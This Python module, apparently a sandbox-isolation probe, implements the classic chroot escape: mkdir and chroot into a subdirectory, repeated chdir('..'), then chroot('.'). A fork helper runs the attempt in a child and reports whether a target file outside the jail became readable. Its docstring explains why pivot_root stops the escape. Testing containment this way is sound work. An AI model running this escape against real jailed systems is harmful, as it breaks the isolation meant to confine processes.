"""The classic chroot escape (man 2 chroot: "This call does not change the current working directory"),
and a fork that runs an attempt in a process of its own and hands its result back.

A process root enough to call chroot(2) (CAP_SYS_CHROOT) that is in a plain chroot:
    mkdir("esc"); chroot("esc")     its root is now esc/, but its working directory stays outside it
    chdir("..") again and again     `..` stops only at the process's root, which is no longer above it
    chroot(".")                     the real / of its mount namespace is its root again
Keeping a directory fd from before the chroot and fchdir(fd) to it does the same. pivot_root(2) does not
move a process's root inside one filesystem tree: it changes which mount is the namespace's root, and the
old one is unmounted (MNT_DETACH). Then the walk ends at the container's own /: there is nothing above it.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from typing import Any

WALK = 64  # more `..` than any path here is deep

STEPS = [
    'chroot("JAIL"); chdir("/")',
    'mkdir("esc"); chroot("esc")',
    'chdir("..") x64; chroot(".")',
    'open("MARKER")',
]


def read_result(path: str) -> dict[str, str | None]:
    """{"content": the file's text, "errno": None} or {"content": None, "errno": "ENOENT"}."""
    try:
        with open(path) as f:
            return {"content": f.read(), "errno": None}
    except OSError as error:
        return {"content": None, "errno": _name(error)}


def escape_walk(jail: str, target: str) -> dict[str, Any]:
    """In THIS process (call it in a child): be chrooted into `jail` as `chroot JAIL` leaves one, try to read
    `target`, escape, try again. What the walk reached is compared with the root it started from."""
    os.chroot(jail)
    os.chdir("/")
    jailed = read_result(target)
    start = os.stat("/")
    os.makedirs("esc", exist_ok=True)
    os.chroot("esc")  # the working directory (the jail's /) is now outside the root
    for _ in range(WALK):
        os.chdir("..")
    os.chroot(".")
    reached = os.stat("/")
    return {
        "jailed": jailed,
        "escaped": read_result(target),
        "moved": (reached.st_dev, reached.st_ino) != (start.st_dev, start.st_ino),
        "root_listing": sorted(os.listdir("/"))[:12],
    }


def in_child(function: Callable[..., dict[str, Any]], *args: Any) -> dict[str, Any]:
    """Fork; the child runs `function(*args)` and sends back its result as JSON; an exception comes back as
    {"error": text}. The calling process keeps its root, capabilities and filter."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        try:
            os.close(read_end)
            try:
                result = function(*args)
            except OSError as error:
                result = {"error": f"{error.strerror} ({_name(error)})", "errno": _name(error)}
            except Exception as error:  # everything goes back to the parent as data
                result = {"error": repr(error)}
            os.write(write_end, json.dumps(result).encode())
        finally:
            os._exit(0)
    os.close(write_end)
    chunks = []
    try:
        while chunk := os.read(read_end, 65536):
            chunks.append(chunk)
    finally:
        os.close(read_end)
        os.waitpid(pid, 0)
    data = b"".join(chunks)
    return json.loads(data) if data else {"error": "no answer"}


def attempt(jail: str, target: str) -> dict[str, Any]:
    """The plain chroot attempt, in a child of the calling process (a probe: `box.call(attempt, ...)`)."""
    return in_child(escape_walk, jail, target)


def _name(error: OSError) -> str:
    import errno

    return errno.errorcode.get(error.errno or 0, str(error.errno))
